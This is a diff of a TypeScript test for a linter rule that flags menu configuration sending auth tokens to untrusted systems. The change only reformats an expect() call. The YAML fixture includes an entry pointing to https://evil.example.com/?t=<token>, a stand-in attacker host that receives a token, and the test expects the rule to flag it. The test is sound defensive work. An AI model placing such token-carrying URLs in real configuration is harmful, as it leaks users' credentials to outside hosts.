@@ -4,7 +4,8 @@ import { check, line } from '../helpers.ts';
 
 describe('M11 m11TokensOnlyToTrustedSystems', () => {
   it('[M11] sends tokens only to trusted systems', () => {
-    expect(check(`  - id: tapm
+    expect(
+      check(`  - id: tapm
     parent: dashboard
     label: TAPM
     url: "{kurikulum}/tapm?t=<idToken>"
@@ -16,7 +17,8 @@ describe('M11 m11TokensOnlyToTrustedSystems', () => {
     parent: dashboard
     label: Bocor langsung
     url: https://evil.example.com/?t=<token>
-`).lines).toEqual([
+`).lines,
+    ).toEqual([
       `m.yaml:${line(8)}:20 TOKEN_TO_UNTRUSTED bocor: <idToken> is a token and may only go to a trusted system; system rg is not marked trusted: true`,
       `m.yaml:${line(12)}:38 TOKEN_TO_UNTRUSTED bocor-langsung: <token> is a token and may only go to a trusted system; the url names no {system}`,
     ]);
